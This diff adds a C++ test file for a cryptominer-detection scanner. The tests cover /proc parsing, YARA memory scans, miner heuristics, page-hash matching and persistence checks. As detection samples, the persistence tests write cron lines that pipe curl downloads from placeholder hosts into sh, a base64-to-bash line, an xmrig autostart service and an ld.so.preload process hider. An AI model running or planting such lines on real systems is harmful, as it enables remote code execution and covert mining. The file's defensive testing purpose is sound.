@@ -1,0 +1,501 @@
+// minerwatch — SPDX-License-Identifier: Apache-2.0
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <signal.h>
+#include <sys/socket.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <cstring>
+#include <filesystem>
+#include <fstream>
+#include <random>
+#include <set>
+
+#include <gtest/gtest.h>
+
+#include "hostscan/host_scanner.h"
+#include "hostscan/memory_scanner.h"
+#include "hostscan/page_db.h"
+#include "hostscan/persistence.h"
+#include "hostscan/proc_parsers.h"
+#include "hostscan/process.h"
+#include "hostscan/yara_rules.h"
+
+namespace mw::hostscan {
+namespace {
+
+namespace fs = std::filesystem;
+
+// The RandomX Argon2 salt and AesGenerator1R key 0, built at run time so this test binary's
+// own image does not carry them contiguously.
+std::vector<uint8_t> RandomXBytes() {
+  std::string salt = "RandomX";
+  salt.push_back('\x03');
+  const uint8_t key0[16] = {0x53, 0xA5, 0xAC, 0x6D, 0x09, 0x66, 0x71, 0x62,
+                            0x2B, 0x55, 0xB5, 0xDB, 0x17, 0x49, 0xF4, 0xB4};
+  std::vector<uint8_t> v(salt.begin(), salt.end());
+  v.resize(64, 0x11);
+  v.insert(v.end(), key0, key0 + 16);
+  return v;
+}
+
+std::vector<uint8_t> RandomBuffer(size_t n, uint32_t seed) {
+  std::mt19937_64 rng(seed);
+  std::vector<uint8_t> b(n);
+  for (size_t i = 0; i + 8 <= n; i += 8) {
+    uint64_t r = rng();
+    std::memcpy(&b[i], &r, 8);
+  }
+  return b;
+}
+
+fs::path TempDir(const std::string& name) {
+  fs::path p = fs::temp_directory_path() / ("mw_hostscan_" + name + "_" + std::to_string(getpid()));
+  fs::remove_all(p);
+  fs::create_directories(p);
+  return p;
+}
+
+void WriteFile(const fs::path& p, const std::string& text) {
+  fs::create_directories(p.parent_path());
+  std::ofstream(p) << text;
+}
+
+// ---- /proc parsers ----
+
+TEST(ProcParsers, MapsLines) {
+  std::string text =
+      "00400000-00c5a000 r-xp 00000000 fe:00 1234   /tmp/x/kworker (deleted)\n"
+      "7f0000000000-7f0000021000 rw-p 00000000 00:00 0 \n"
+      "7ffd1000-7ffd2000 r--p 00000000 00:00 0      [vvar]\n"
+      "garbage line\n"
+      "7f00-7e00 r--p 0 0:0 0\n"  // end < start
+      "7f0000100000-7f0000101000 rw-s 00000000 00:01 99 /memfd:x (deleted)";
+  ParseStats st;
+  auto maps = ParseMaps(text, &st);
+  ASSERT_EQ(maps.size(), 4u);
+  EXPECT_EQ(st.bad_lines, 2u);
+  EXPECT_TRUE(maps[0].exec);
+  EXPECT_TRUE(maps[0].deleted());
+  EXPECT_EQ(maps[0].path, "/tmp/x/kworker (deleted)");
+  EXPECT_EQ(maps[0].size(), 0x85a000u);
+  EXPECT_EQ(maps[1].path, "");
+  EXPECT_TRUE(maps[2].special());
+  EXPECT_TRUE(maps[3].shared);
+}
+
+TEST(ProcParsers, MapsTruncatedMidLine) {
+  std::string text = "00400000-00c5a000 r-xp 00000000 fe:00 1234 /usr/bin/x\n00c5a000-00c";
+  auto maps = ParseMaps(text);
+  EXPECT_EQ(maps.size(), 1u);
+}
+
+TEST(ProcParsers, ProcNetV4AndV6) {
+  std::string tcp =
+      "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
+      "   0: 0100007F:0CEA 00000000:0000 0A 00000000:00000000 00:00000000 00000000   118        0 21478 1 0000000000000000 100 0 0 10 0\n"
+      "   1: 0F02000A:C350 2A01A8C0:0D05 01 00000000:00000000 00:00000000 00000000     0        0 99 1\n"
+      "   2: truncated";
+  ParseStats st;
+  auto v4 = ParseProcNet(tcp, false, false, &st);
+  ASSERT_EQ(v4.size(), 2u);
+  EXPECT_EQ(st.bad_lines, 1u);
+  EXPECT_EQ(v4[0].local.ToString(), "127.0.0.1");
+  EXPECT_EQ(v4[0].local_port, 3306);
+  EXPECT_EQ(v4[0].state, 10);
+  EXPECT_EQ(v4[1].remote.ToString(), "192.168.1.42");
+  EXPECT_EQ(v4[1].remote_port, 3333);
+  EXPECT_EQ(v4[1].inode, 99u);
+  std::string tcp6 =
+      "  sl  local_address                         remote_address                        st\n"
+      "   0: 00000000000000000000000001000000:0016 00000000000000000000000000000000:0000 0A "
+      "00000000:00000000 00:00000000 00000000     0        0 555 1\n";
+  auto v6 = ParseProcNet(tcp6, false, true);
+  ASSERT_EQ(v6.size(), 1u);
+  EXPECT_EQ(v6[0].local.ToString(), "::1");
+  EXPECT_EQ(v6[0].inode, 555u);
+}
+
+TEST(ProcParsers, StatWithParensInComm) {
+  std::string stat =
+      "4242 (evil) (x) R 1 4242 4242 0 -1 4194560 100 0 0 0 1500 30 0 0 20 0 7 0 123456 "
+      "1000000 200 18446744073709551615";
+  auto st = ParseStat(stat);
+  ASSERT_TRUE(st);
+  EXPECT_EQ(st->comm, "evil) (x");
+  EXPECT_EQ(st->ppid, 1);
+  EXPECT_EQ(st->utime, 1500u);
+  EXPECT_EQ(st->stime, 30u);
+  EXPECT_EQ(st->num_threads, 7);
+  EXPECT_EQ(st->start_time, 123456u);
+  EXPECT_FALSE(ParseStat("4242 (x) R 1 2"));  // truncated
+  EXPECT_FALSE(ParseStat(""));
+}
+
+TEST(ProcParsers, CgroupContainers) {
+  std::string id(64, 'a');
+  auto docker = ParseCgroup("0::/system.slice/docker-" + id + ".scope\n");
+  EXPECT_EQ(docker.id, id);
+  EXPECT_EQ(docker.runtime, "docker");
+  auto k8s = ParseCgroup("0::/kubepods/burstable/pod1/" + id + "\n");
+  EXPECT_EQ(k8s.runtime, "kubernetes");
+  EXPECT_TRUE(ParseCgroup("0::/user.slice/user-0.slice/session-1.scope\n").id.empty());
+}
+
+TEST(ProcParsers, CmdlineAndSocketLink) {
+  auto argv = ParseCmdline(std::string("xmrig\0-o\0pool:3333\0", 20));
+  ASSERT_EQ(argv.size(), 3u);
+  EXPECT_EQ(argv[2], "pool:3333");
+  EXPECT_EQ(ParseSocketLink("socket:[123]"), 123u);
+  EXPECT_FALSE(ParseSocketLink("pipe:[123]"));
+  EXPECT_FALSE(ParseSocketLink("socket:[]"));
+}
+
+// ---- YARA ----
+
+TEST(Yara, BuiltinRulesCompileAndMatchRandomX) {
+  auto rules = YaraRules::Load(true, {});
+  ASSERT_TRUE(rules) << rules.error().message();
+  EXPECT_GE((*rules)->rule_count(), 12u);
+  MemoryScanner scanner(*rules, MemScanOptions{});
+  auto buf = RandomBuffer(1 << 20, 1);
+  auto rx = RandomXBytes();
+  std::copy(rx.begin(), rx.end(), buf.begin() + 500000);
+  std::vector<RuleMatch> out;
+  ASSERT_TRUE(scanner.ScanBuffer(buf, 0x10000000, &out));
+  ASSERT_FALSE(out.empty());
+  bool salt = false;
+  for (const auto& m : out) {
+    if (m.rule->name == "MW_RandomX_Argon2_Salt") {
+      salt = true;
+      EXPECT_EQ(m.address, 0x10000000u + 500000u);
+    }
+  }
+  EXPECT_TRUE(salt);
+}
+
+TEST(Yara, NoMatchOnRandomOrZeroData) {
+  auto rules = YaraRules::Load(true, {});
+  ASSERT_TRUE(rules);
+  MemoryScanner scanner(*rules, MemScanOptions{});
+  std::vector<RuleMatch> out;
+  auto buf = RandomBuffer(4 << 20, 2);
+  ASSERT_TRUE(scanner.ScanBuffer(buf, 0, &out));
+  std::vector<uint8_t> zeros(4 << 20, 0);
+  ASSERT_TRUE(scanner.ScanBuffer(zeros, 0, &out));
+  EXPECT_TRUE(out.empty());
+}
+
+TEST(Yara, MatchAcrossChunkBoundaryAndAfterZeroRun) {
+  auto rules = YaraRules::Load(true, {});
+  ASSERT_TRUE(rules);
+  MemScanOptions o;
+  o.chunk_bytes = 64 << 10;
+  MemoryScanner scanner(*rules, o);
+  std::vector<uint8_t> buf(1 << 20, 0);  // mostly zero pages: exercises zero skipping
+  auto rx = RandomXBytes();
+  size_t at = (64 << 10) - 20;  // straddles the first chunk boundary
+  std::copy(rx.begin(), rx.end(), buf.begin() + at);
+  std::vector<RuleMatch> out;
+  ASSERT_TRUE(scanner.ScanBuffer(buf, 0, &out));
+  ASSERT_FALSE(out.empty());
+  EXPECT_EQ(out[0].address, at);
+}
+
+TEST(Yara, UserRuleErrorsNameTheFile) {
+  fs::path dir = TempDir("badrule");
+  WriteFile(dir / "bad.yar", "rule x {\n condition: nosuchthing\n}\n");
+  auto rules = YaraRules::Load(false, {(dir / "bad.yar").string()});
+  ASSERT_FALSE(rules);
+  EXPECT_NE(rules.error().message().find("bad.yar:2"), std::string::npos) << rules.error().message();
+  EXPECT_FALSE(YaraRules::Load(false, {(dir / "missing.yar").string()}));
+  fs::remove_all(dir);
+}
+
+TEST(Yara, EverySharedDataRuleFileCompilesAndRuns) {
+  fs::path dir = fs::path(MW_SHARED_DATA_DIR) / "yara";
+  if (!fs::is_directory(dir)) GTEST_SKIP() << "shared test data not present at " << dir;
+  size_t files = 0;
+  for (const auto& e : fs::recursive_directory_iterator(dir)) {
+    auto ext = e.path().extension();
+    if (ext != ".yar" && ext != ".yara") continue;
+    ++files;
+    auto rules = YaraRules::Load(false, {e.path().string()});
+    ASSERT_TRUE(rules) << e.path() << ": " << rules.error().message();
+    YaraScanner scanner(*rules);
+    std::vector<RuleMatch> out;
+    auto buf = RandomBuffer(256 << 10, 3);
+    EXPECT_TRUE(scanner.Scan(buf, 0, &out)) << e.path();
+  }
+  EXPECT_GE(files, 50u);
+  // And all of them together with the builtin rules (one namespace per file).
+  auto all = YaraRules::Load(true, {dir.string()});
+  ASSERT_TRUE(all) << all.error().message();
+  EXPECT_GT((*all)->rule_count(), 185u);
+}
+
+// ---- memory scanning of a live process ----
+
+// A child that holds the RandomX bytes in its heap and waits.
+pid_t SpawnHolder(int* ready_fd) {
+  int p[2];
+  if (pipe(p) != 0) return -1;
+  pid_t pid = fork();
+  if (pid == 0) {
+    close(p[0]);
+    auto* heap = new std::vector<uint8_t>(RandomXBytes());
+    heap->resize(1 << 16, 0x22);
+    char c = 'r';
+    (void)!write(p[1], &c, 1);
+    while (true) pause();
+  }
+  close(p[1]);
+  *ready_fd = p[0];
+  char c;
+  (void)!read(p[0], &c, 1);
+  return pid;
+}
+
+TEST(MemoryScanner, FindsRulesInAChildAndSkipsUnchangedRegions) {
+  auto rules = YaraRules::Load(true, {});
+  ASSERT_TRUE(rules);
+  int fd;
+  pid_t child = SpawnHolder(&fd);
+  ASSERT_GT(child, 0);
+  MemoryScanner scanner(*rules, MemScanOptions{});
+  scanner.BeginPass();
+  ProcessMemResult r = scanner.ScanProcess(child, "/", "");
+  bool found = false;
+  for (const auto& h : r.hits) found |= h.rule->name == "MW_RandomX_Argon2_Salt";
+  EXPECT_TRUE(found);
+  EXPECT_GT(r.stats.bytes_read, 0u);
+  EXPECT_FALSE(r.exec_page_hashes.empty());
+  EXPECT_FALSE(r.read_method.empty());
+  // Second pass: nothing changed, so no region goes to YARA again, and the hit is kept.
+  scanner.BeginPass();
+  ProcessMemResult r2 = scanner.ScanProcess(child, "/", "");
+  EXPECT_EQ(r2.stats.regions_scanned, 0u);
+  EXPECT_GT(r2.stats.regions_unchanged + r2.stats.regions_shared_cached, 0u);
+  found = false;
+  for (const auto& h : r2.hits) found |= h.rule->name == "MW_RandomX_Argon2_Salt";
+  EXPECT_TRUE(found);
+  kill(child, SIGKILL);
+  waitpid(child, nullptr, 0);
+  close(fd);
+  // The process is gone now: an error note, no crash.
+  ProcessMemResult gone = scanner.ScanProcess(child, "/", "");
+  EXPECT_TRUE(gone.hits.empty());
+  EXPECT_FALSE(gone.errors.empty());
+}
+
+TEST(MemoryScanner, RefusesItself) {
+  auto rules = YaraRules::Load(true, {});
+  ASSERT_TRUE(rules);
+  MemoryScanner scanner(*rules, MemScanOptions{});
+  auto r = scanner.ScanProcess(getpid(), "/", "");
+  EXPECT_EQ(r.stats.bytes_read, 0u);
+  ASSERT_FALSE(r.errors.empty());
+}
+
+TEST(MemoryScanner, BudgetBoundsBytesRead) {
+  MemScanOptions o;
+  o.max_bytes_per_process = 64 << 10;
+  o.hash_exec_pages = false;
+  MemoryScanner scanner(nullptr, o);
+  int fd;
+  pid_t child = SpawnHolder(&fd);
+  ASSERT_GT(child, 0);
+  auto r = scanner.ScanProcess(child, "/", "");
+  // Executable mappings are always read (page hashes); everything else stops at the budget.
+  EXPECT_TRUE(r.budget_exhausted);
+  kill(child, SIGKILL);
+  waitpid(child, nullptr, 0);
+  close(fd);
+}
+
+// ---- process inventory ----
+
+TEST(Process, ReadsSelfWithSockets) {
+  int s = socket(AF_INET, SOCK_STREAM, 0);
+  ASSERT_GE(s, 0);
+  sockaddr_in a{};
+  a.sin_family = AF_INET;
+  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  ASSERT_EQ(bind(s, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
+  ASSERT_EQ(listen(s, 1), 0);
+  socklen_t len = sizeof a;
+  getsockname(s, reinterpret_cast<sockaddr*>(&a), &len);
+  ProcReader reader(ReadOptions{});
+  auto p = reader.Read(getpid());
+  ASSERT_TRUE(p) << p.error().message();
+  EXPECT_EQ(p->pid, getpid());
+  EXPECT_EQ(p->exe_sha256.size(), 64u);
+  EXPECT_FALSE(p->cmdline.empty());
+  EXPECT_GE(p->threads, 1);
+  bool listening = false;
+  for (const auto& e : p->sockets) listening |= e.local_port == ntohs(a.sin_port) && e.state == 10;
+  EXPECT_TRUE(listening);
+  close(s);
+  EXPECT_FALSE(reader.Read(0x7ffffff0));  // no such pid
+}
+
+TEST(Process, TruncatedProcFilesInFixtureRoot) {
+  fs::path root = TempDir("proc");
+  WriteFile(root / "proc/77/stat", "77 (half");  // truncated mid-file
+  WriteFile(root / "proc/78/stat",
+            "78 (ok) S 1 78 78 0 -1 0 0 0 0 0 5 5 0 0 20 0 1 0 99 0 0");
+  WriteFile(root / "proc/78/cmdline", std::string("ok\0--x", 6));
+  WriteFile(root / "proc/78/status", "Name:\tok\nUid:");  // cut before the numbers
+  ProcReader reader(ReadOptions{.root = root.string()});
+  EXPECT_FALSE(reader.Read(77));
+  auto p = reader.Read(78);
+  ASSERT_TRUE(p);
+  EXPECT_EQ(p->comm, "ok");
+  EXPECT_EQ(p->cmdline.size(), 2u);
+  EXPECT_FALSE(p->unreadable.empty());  // no exe link in the fixture
+  // A whole pass over the fixture root finds nothing and does not fail.
+  HostScanOptions o;
+  o.root = root.string();
+  o.cpu_sample_ms = 0;
+  o.check_system_binaries = false;
+  HostScanner scanner(o);
+  FindingEmitter out;
+  auto rep = scanner.RunPass(out);
+  EXPECT_EQ(out.size(), 0u);
+  EXPECT_EQ(rep.processes, 1u);
+  fs::remove_all(root);
+}
+
+TEST(Process, MinerHeuristics) {
+  ProcessInfo p;
+  p.pid = 10;
+  p.cmdline = {"./x", "-o", "stratum+tcp://pool.example.org:3333", "--donate-level=1"};
+  auto r = MinerProcessReasons(p, 50);
+  ASSERT_EQ(r.size(), 2u);
+  EXPECT_EQ(PoolHostsInCmdline(p.cmdline), std::vector<std::string>{"pool.example.org"});
+  ProcessInfo q;
+  q.cmdline = {"kworker/0:1"};
+  q.exe = "/tmp/.x/kworker";
+  q.exe_deleted = true;
+  q.exe_suspicious_dir = true;
+  q.cpu_percent = 190;
+  EXPECT_EQ(MinerProcessReasons(q, 50).size(), 3u);
+  q.cpu_percent = 1;  // idle: deleted executables alone are common after upgrades
+  EXPECT_TRUE(MinerProcessReasons(q, 50).empty());
+  ProcessInfo benign;
+  benign.cmdline = {"python3", "-m", "http.server"};
+  benign.cpu_percent = 100;
+  EXPECT_TRUE(MinerProcessReasons(benign, 50).empty());
+}
+
+// ---- page hashes ----
+
+TEST(PageDb, AddBinaryMatchesRunningCopyAndSurvivesAppend) {
+  fs::path dir = TempDir("pagedb");
+  fs::path db_path = dir / "pagedb.txt";
+  // /bin/sleep: a real ELF we can run.
+  fs::path bin = "/bin/sleep";
+  ASSERT_TRUE(fs::exists(bin));
+  // Appending bytes must not change the pages (the ELF segments do not cover the tail).
+  fs::path copy = dir / "renamed-copy";
+  fs::copy_file(bin, copy);
+  { std::ofstream(copy, std::ios::app) << std::string(10000, 'Z'); }
+  fs::permissions(copy, fs::perms::owner_all);
+  ASSERT_TRUE(AddBinaryToPageDb(bin.string(), "testfam", db_path.string()));
+  auto db = PageDb::Load(db_path.string());
+  ASSERT_TRUE(db) << db.error().message();
+  ASSERT_EQ(db->binary_count(), 1u);
+  EXPECT_GT(db->binaries()[0].pages, 0u);
+  pid_t child = fork();
+  if (child == 0) {
+    execl(copy.c_str(), "renamed-copy", "30", nullptr);
+    _exit(127);
+  }
+  usleep(200000);
+  fs::remove(copy);  // deleted while it runs
+  MemoryScanner scanner(nullptr, MemScanOptions{});
+  auto r = scanner.ScanProcess(child, "/", "");
+  auto hits = db->Match(r.exec_page_hashes, 20, 1);
+  ASSERT_FALSE(hits.empty());
+  EXPECT_EQ(hits[0].binary->family, "testfam");
+  EXPECT_GT(hits[0].percent, 90.0);
+  kill(child, SIGKILL);
+  waitpid(child, nullptr, 0);
+  fs::remove_all(dir);
+}
+
+TEST(PageDb, ParseErrorsAreClear) {
+  EXPECT_FALSE(PageDb::Parse("not a db\n"));
+  auto bad = PageDb::Parse("minerwatch-pagedb 1\nb 0 x " + std::string(64, 'a') + " 2 n\np 0 00000000000000ff\n");
+  ASSERT_FALSE(bad);  // header says 2 pages, one record: truncated
+  EXPECT_NE(bad.error().message().find("truncated"), std::string::npos);
+  EXPECT_FALSE(PageDb::Parse("minerwatch-pagedb 1\np 0 00000000000000ff\n"));
+  EXPECT_FALSE(HashElfExecPages(AsBytes("hello")));
+  auto empty = PageDb::Load("/nonexistent/pagedb.txt");
+  ASSERT_TRUE(empty);
+  EXPECT_EQ(empty->binary_count(), 0u);
+}
+
+// ---- persistence ----
+
+TEST(Persistence, ClassifyLine) {
+  std::vector<std::string> none;
+  EXPECT_FALSE(ClassifyLine("*/5 * * * * curl -fsSL http://x.example/a.sh | sh", none).empty());
+  EXPECT_FALSE(ClassifyLine("ExecStart=/opt/x/xmrig -o stratum+tcp://p:3333", none).empty());
+  EXPECT_FALSE(ClassifyLine("echo " + std::string(100, 'A') + " | base64 -d | bash", none).empty());
+  EXPECT_TRUE(ClassifyLine("17 * * * * root cd / && run-parts --report /etc/cron.hourly", none).empty());
+  EXPECT_TRUE(ClassifyLine("ExecStart=/usr/sbin/sshd -D $SSHD_OPTS", none).empty());
+  std::vector<std::string> miners = {"/var/tmp/.x/kworker"};
+  EXPECT_FALSE(ClassifyLine("@reboot /var/tmp/.x/kworker", miners).empty());
+}
+
+TEST(Persistence, FixtureRootFindsEachAndCleanRootNothing) {
+  fs::path root = TempDir("persist");
+  WriteFile(root / "etc/crontab",
+            "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
+            "*/10 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n");
+  WriteFile(root / "etc/systemd/system/sysupdate.service",
+            "[Unit]\nDescription=System update\n[Service]\n"
+            "ExecStart=/usr/local/bin/sysupdate -o stratum+tcp://pool.example.org:3333 "
+            "--donate-level 1\n[Install]\nWantedBy=multi-user.target\n");
+  WriteFile(root / "etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n");
+  WriteFile(root / "root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG admin@host\n");
+  std::vector<std::string> errors;
+  auto hits = ScanPersistence(PersistenceOptions{.root = root.string()}, &errors);
+  ASSERT_EQ(hits.size(), 3u);
+  std::set<std::string> kinds;
+  for (const auto& h : hits) kinds.insert(h.kind);
+  EXPECT_EQ(kinds, (std::set<std::string>{"cron", "systemd", "ld.so.preload"}));
+  for (const auto& h : hits) {
+    if (h.kind == "cron") {
+      EXPECT_EQ(h.line, 3u);
+      EXPECT_EQ(h.attack, "T1053.003");
+    }
+    if (h.kind == "ld.so.preload") EXPECT_EQ(h.attack, "T1574.006");
+  }
+  // The same through a host pass: Persistence: Miner Autostart findings.
+  HostScanOptions o;
+  o.root = root.string();
+  o.scan_memory = false;
+  o.cpu_sample_ms = 0;
+  HostScanner scanner(o);
+  FindingEmitter out;
+  scanner.RunPass(out);
+  ASSERT_EQ(out.size(), 3u);
+  for (const auto& f : out.all()) {
+    EXPECT_EQ(f.category, category::kMinerAutostart);
+    EXPECT_TRUE(f.evidence.contains("persistence"));
+  }
+
+  fs::path clean = TempDir("clean");
+  WriteFile(clean / "etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
+  WriteFile(clean / "etc/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n");
+  WriteFile(clean / "root/.bashrc", "alias ll='ls -l'\nexport PATH=$PATH:/usr/local/bin\n");
+  EXPECT_TRUE(ScanPersistence(PersistenceOptions{.root = clean.string()}, &errors).empty());
+  fs::remove_all(root);
+  fs::remove_all(clean);
+}
+
+}  // namespace
+}  // namespace mw::hostscan
